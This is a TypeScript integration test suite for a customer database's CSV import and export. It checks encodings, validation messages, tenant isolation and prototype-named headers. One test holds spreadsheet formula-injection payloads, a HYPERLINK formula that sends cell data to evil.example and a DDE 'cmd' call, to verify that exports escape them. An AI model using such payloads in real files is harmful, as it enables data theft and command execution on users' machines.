import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { callEvent, errorCode, gql, type Harness, ok, popupOf, produceCall, startHarness } from './support';

const IMPORT = `mutation ($input: CustomerImportInput!) {
  importCustomersCsv(input: $input) { dryRun created updated rejected unmappedColumns rowsTruncated rows { line action externalId name problems } }
}`;
const COUNT = '{ customers { total } }';

interface Report {
  dryRun: boolean;
  created: number;
  updated: number;
  rejected: number;
  unmappedColumns: string[];
  rows: { line: number; action: string; externalId: string | null; problems: string[] }[];
}

const header =
  '顧客ID,氏名,フリガナ,携帯,電話番号,郵便番号,都道府県,市区町村,番地,建物名,タグ,会員ランク,メモ,好きな色';
const lines = [
  'C001,山田 太郎,ﾔﾏﾀﾞ ﾀﾛｳ,090-1111-2222,,〒150-0001,東京,渋谷区,神宮前1-2-3,㈱サンクスビル 4F,VIP;常連,ゴールド,①初回は電話注文,赤',
  'C002,佐藤 花子,サトウ ハナコ,,03-1234-5678,,,,,,,シルバー,"改行を含む\nメモ",青',
  'C003,,ナマエナシ,,,,,,,,,シルバー,,',
  'C004,鈴木 一郎,スズキ イチロウ,abc,,,,,,,,シルバー,,',
  'C005,高橋 次郎,タカハシ ジロウ,,,12345,,,,,,シルバー,,',
  'C006,田中 三郎,タナカ サブロウ,,,,,,,,,プラチナ,,',
];
/** One CSV line, every cell quoted (quotes doubled), as a spreadsheet would save it. */
const stringifyRow = (cells: string[]) => cells.map((c) => `"${c.replaceAll('"', '""')}"`).join(',');
const shiftJis = (rows: string[]) => iconv.encode([header, ...rows].join('\r\n'), 'cp932').toString('base64');

// Generous: these suites share a 2-core machine with every other suite, and nothing here is timed.
describe('CSV import and export (real Postgres and Kafka)', { timeout: 180_000 }, () => {
  let h: Harness;
  const tenantA = randomUUID();
  const tenantB = randomUUID();
  let admin: string;
  let adminB: string;

  const importFile = async (token: string, contentBase64: string, dryRun: boolean, encoding = 'SHIFT_JIS') =>
    (await ok<{ importCustomersCsv: Report }>(h, token, IMPORT, { input: { contentBase64, encoding, dryRun } }))
      .importCustomersCsv;
  const total = async (token: string) => (await ok<{ customers: { total: number } }>(h, token, COUNT)).customers.total;

  beforeAll(async () => {
    h = await startHarness();
    admin = await h.sign({ tenantId: tenantA, roles: ['tenant-admin', 'operator'] });
    adminB = await h.sign({ tenantId: tenantB, roles: ['tenant-admin', 'operator'] });
    for (const token of [admin, adminB]) {
      await ok(
        h,
        token,
        'mutation { defineCustomField(input: { key: "rank", label: "会員ランク", type: SELECT, options: ["ゴールド", "シルバー"] }) { key } }',
      );
    }
  });

  afterAll(async () => {
    await h?.close();
  });

  it('dry-runs a Shift_JIS file with bad rows: reports what would happen and why, changes nothing', async () => {
    const report = await importFile(admin, shiftJis(lines), true);
    expect(report).toMatchObject({ dryRun: true, created: 2, updated: 0, rejected: 4, unmappedColumns: ['好きな色'] });
    expect(report.rows.map((r) => [r.line, r.action, r.externalId])).toEqual([
      [2, 'CREATE', 'C001'],
      [3, 'CREATE', 'C002'],
      [4, 'REJECT', 'C003'],
      [5, 'REJECT', 'C004'],
      [6, 'REJECT', 'C005'],
      [7, 'REJECT', 'C006'],
    ]);
    const why = Object.fromEntries(
      report.rows.filter((r) => r.action === 'REJECT').map((r) => [r.externalId, r.problems.join(' ')]),
    );
    expect(why.C003).toContain('顧客名');
    expect(why.C004).toContain('「abc」は電話番号ではありません');
    expect(why.C005).toContain('7桁の数字');
    expect(why.C006).toContain('会員ランク');
    expect(await total(admin)).toBe(0);
  });

  it('imports, keeps Windows-31J characters, feeds the popup, and re-imports idempotently', async () => {
    const first = await importFile(admin, shiftJis(lines), false);
    expect(first).toMatchObject({ dryRun: false, created: 2, updated: 0, rejected: 4 });
    const found = await ok<{
      customers: {
        items: { name: string; nameKana: string; notes: string; address: Record<string, string>; tags: string[] }[];
      };
    }>(
      h,
      admin,
      '{ customers(search: { text: "山田" }) { items { name nameKana notes tags address { postalCode prefecture building } } } }',
    );
    expect(found.customers.items).toEqual([
      {
        name: '山田 太郎',
        nameKana: 'ヤマダ タロウ',
        notes: '①初回は電話注文',
        tags: ['VIP', '常連'],
        address: { postalCode: '150-0001', prefecture: '東京都', building: '㈱サンクスビル 4F' },
      },
    ]);
    const ring = callEvent(tenantA, { callId: `call-${randomUUID()}`, from: '+819011112222' });
    await produceCall(h, ring);
    expect((await popupOf(h, tenantA, ring.payload.callId)).payload).toMatchObject({
      class: 'CUSTOMER',
      customer: { name: '山田 太郎' },
    });

    const again = await importFile(admin, shiftJis(lines), false);
    expect(again).toMatchObject({ created: 0, updated: 2, rejected: 4 });
    expect(await total(admin)).toBe(2);
    const phones = await ok<{ customers: { items: { phones: unknown[] }[] } }>(
      h,
      admin,
      '{ customers(search: { text: "山田" }) { items { phones { raw } } } }',
    );
    expect(phones.customers.items[0]?.phones).toHaveLength(1);
  });

  it('exports in Shift_JIS and UTF-8 (with BOM) in a form the import reads back', async () => {
    const sjis = Buffer.from(
      (await ok<{ exportCustomersCsv: string }>(h, admin, '{ exportCustomersCsv(encoding: SHIFT_JIS) }'))
        .exportCustomersCsv,
      'base64',
    );
    const text = iconv.decode(sjis, 'cp932');
    expect(text.split('\r\n')[0]).toBe(
      '顧客ID,氏名,フリガナ,会社名,部署,電話番号,メール,郵便番号,都道府県,市区町村,番地,建物名,タグ,メモ,会員ランク',
    );
    expect(text).toContain('C001,山田 太郎,ヤマダ タロウ');
    expect(text).toContain('"改行を含む\nメモ"');
    const utf8 = Buffer.from(
      (await ok<{ exportCustomersCsv: string }>(h, admin, '{ exportCustomersCsv(encoding: UTF8) }')).exportCustomersCsv,
      'base64',
    );
    expect([...utf8.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);

    const roundTrip = await importFile(admin, sjis.toString('base64'), false);
    expect(roundTrip).toMatchObject({ created: 0, updated: 2, rejected: 0, unmappedColumns: [] });
    const roundTripUtf8 = await importFile(admin, utf8.toString('base64'), true, 'UTF8');
    expect(roundTripUtf8).toMatchObject({ created: 0, updated: 2, rejected: 0 });
  });

  it('refuses unreadable input with stable codes', async () => {
    const input = (contentBase64: string, encoding = 'UTF8') => ({ input: { contentBase64, encoding, dryRun: true } });
    expect(await errorCode(h, admin, IMPORT, input(shiftJis(lines)))).toBe('CSV_ENCODING');
    expect(await errorCode(h, admin, IMPORT, input(Buffer.from('電話\n0311112222').toString('base64')))).toBe(
      'CSV_COLUMNS',
    );
    expect(await errorCode(h, admin, IMPORT, input(Buffer.from('氏名\n"unterminated').toString('base64')))).toBe(
      'CSV_UNREADABLE',
    );
    const operator = await h.sign({ tenantId: tenantA });
    expect(await errorCode(h, operator, IMPORT, input(shiftJis(lines), 'SHIFT_JIS'))).toBe('FORBIDDEN');
    expect(await errorCode(h, operator, '{ exportCustomersCsv }')).toBe('FORBIDDEN');
  });

  it('imports headers named constructor, __proto__, toString, hasOwnProperty as ordinary unknown columns', async () => {
    const admin2 = await h.sign({ tenantId: randomUUID(), roles: ['tenant-admin'] });
    const file = [
      '顧客ID,氏名,constructor,__proto__,toString,hasOwnProperty',
      'P1,山田 太郎,a,b,c,d',
      'P2,佐藤 花子,,,,',
    ].join('\r\n');
    const content = Buffer.from(file, 'utf8').toString('base64');
    const dry = await importFile(admin2, content, true, 'UTF8');
    expect(dry).toMatchObject({ created: 2, rejected: 0 });
    expect(dry.unmappedColumns).toEqual(['constructor', '__proto__', 'toString', 'hasOwnProperty']);
    // The same names in an explicit mapping: `__proto__` → 氏名 works like any header.
    const mapped = await ok<{ importCustomersCsv: Report }>(h, admin2, IMPORT, {
      input: {
        contentBase64: Buffer.from('__proto__,constructor\r\n鈴木 一郎,x', 'utf8').toString('base64'),
        encoding: 'UTF8',
        dryRun: false,
        mapping: [{ column: '__proto__', field: 'name' }],
      },
    });
    expect(mapped.importCustomersCsv).toMatchObject({ created: 1, rejected: 0, unmappedColumns: ['constructor'] });
    const names = await ok<{ customers: { items: { name: string }[] } }>(h, admin2, '{ customers { items { name } } }');
    expect(names.customers.items.map((c) => c.name)).toEqual(['鈴木 一郎']);
  });

  it('exports cells starting with = + - @ tab as text (quote prefix, quoted), and reads them back unchanged', async () => {
    const adminC = await h.sign({ tenantId: randomUUID(), roles: ['tenant-admin'] });
    const hostile = {
      name: '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
      company: "+cmd|' /C calc'!A0",
      department: '-2+3',
      notes: '@SUM(1+1)',
      tags: '\t=1+1',
    };
    const file = [
      '顧客ID,氏名,会社名,部署,メモ,タグ,電話番号',
      stringifyRow([
        'X1',
        hostile.name,
        hostile.company,
        hostile.department,
        hostile.notes,
        hostile.tags,
        '+33142685300',
      ]),
      stringifyRow(['X2', "'=既に引用符つき", '', '', '', '', '0312345678']),
    ].join('\r\n');
    const created = await importFile(adminC, Buffer.from(file, 'utf8').toString('base64'), false, 'UTF8');
    expect(created).toMatchObject({ created: 2, rejected: 0 });

    for (const encoding of ['UTF8', 'SHIFT_JIS'] as const) {
      const bytes = Buffer.from(
        (await ok<{ exportCustomersCsv: string }>(h, adminC, `{ exportCustomersCsv(encoding: ${encoding}) }`))
          .exportCustomersCsv,
        'base64',
      );
      const text = encoding === 'UTF8' ? bytes.toString('utf8').replace(/^\uFEFF/, '') : iconv.decode(bytes, 'cp932');
      const cells = (parse(text) as string[][]).flat();
      // No cell a spreadsheet would run as a formula.
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""詳細"")"`);
      expect(text).toContain(`"'+cmd|' /C calc'!A0"`);
      expect(text).toContain(`"'-2+3"`);
      expect(text).toContain(`"'@SUM(1+1)"`);
      // The international number's display starts with +: escaped like any cell; the Japanese one is not.
      expect(text).toContain(`"'+33 1 42 68 53 00"`);
      expect(text).toContain(',03-1234-5678,');
      // A cell the user already wrote as text (`'=…`, Excel's marker) was stored without the marker.
      expect(text).toContain(`"'=既に引用符つき"`);

      // Our import removes the one quote again: re-importing the export changes nothing.
      const again = await importFile(adminC, bytes.toString('base64'), false, encoding);
      expect(again).toMatchObject({ created: 0, updated: 2, rejected: 0 });
      const back = await ok<{
        customers: {
          items: { name: string; company: string; department: string; notes: string; phones: { e164: string }[] }[];
        };
      }>(h, adminC, '{ customers { items { name company department notes phones { e164 } } } }');
      expect(back.customers.items.find((c) => c.phones[0]?.e164 === '+33142685300')).toEqual({
        name: hostile.name,
        company: hostile.company,
        department: hostile.department,
        notes: hostile.notes,
        phones: [{ e164: '+33142685300' }],
      });
      expect(back.customers.items.map((c) => c.name)).toContain('=既に引用符つき');
    }
  });

  it('refuses a UTF-8 file declared Shift_JIS with CSV_ENCODING before counting any row', async () => {
    const adminD = await h.sign({ tenantId: randomUUID(), roles: ['tenant-admin'] });
    const utf8File = Buffer.from([header, ...lines].join('\r\n'), 'utf8').toString('base64');
    const dry = await gql(h, adminD, IMPORT, {
      input: { contentBase64: utf8File, encoding: 'SHIFT_JIS', dryRun: true },
    });
    expect(dry.errors?.[0]?.extensions?.code).toBe('CSV_ENCODING');
    expect(dry.errors?.[0]?.message).toMatch(/UTF-8/);
    expect(dry.data).toBeNull();
    // ASCII rows first, the Japanese later: still refused, and the real run writes nothing.
    const late = Buffer.from(
      ['external_id,name', ...Array.from({ length: 3_000 }, (_, i) => `A${i},Name ${i}`), 'J1,山田 太郎'].join('\r\n'),
      'utf8',
    ).toString('base64');
    expect(
      await errorCode(h, adminD, IMPORT, { input: { contentBase64: late, encoding: 'SHIFT_JIS', dryRun: false } }),
    ).toBe('CSV_ENCODING');
    const jobs = await ok<{ importJobs: { status: string; errorCode: string; created: number }[] }>(
      h,
      adminD,
      '{ importJobs { status errorCode created } }',
    );
    expect(jobs.importJobs.map((j) => [j.status, j.errorCode, j.created])).toEqual([
      ['FAILED', 'CSV_ENCODING', 0],
      ['FAILED', 'CSV_ENCODING', 0],
    ]);
    expect(await total(adminD)).toBe(0);
    // The same file declared UTF-8 imports (this tenant has no 会員ランク field: C006 is fine here).
    expect(await importFile(adminD, utf8File, true, 'UTF8')).toMatchObject({ created: 3, rejected: 3 });
  });

  it('keeps tenants apart: the same external ids in tenant B create B records and never touch A', async () => {
    const b = await importFile(adminB, shiftJis(lines.slice(0, 1)), false);
    expect(b).toMatchObject({ created: 1, updated: 0 });
    expect(await total(admin)).toBe(2);
    expect(await total(adminB)).toBe(1);
    const exportB = iconv.decode(
      Buffer.from(
        (await ok<{ exportCustomersCsv: string }>(h, adminB, '{ exportCustomersCsv(encoding: SHIFT_JIS) }'))
          .exportCustomersCsv,
        'base64',
      ),
      'cp932',
    );
    expect(exportB).not.toContain('佐藤 花子');
    const a = await ok<{ customers: { items: { notes: string }[] } }>(
      h,
      admin,
      '{ customers(search: { text: "山田" }) { items { notes } } }',
    );
    expect(a.customers.items[0]?.notes).toBe('①初回は電話注文');
  });
});
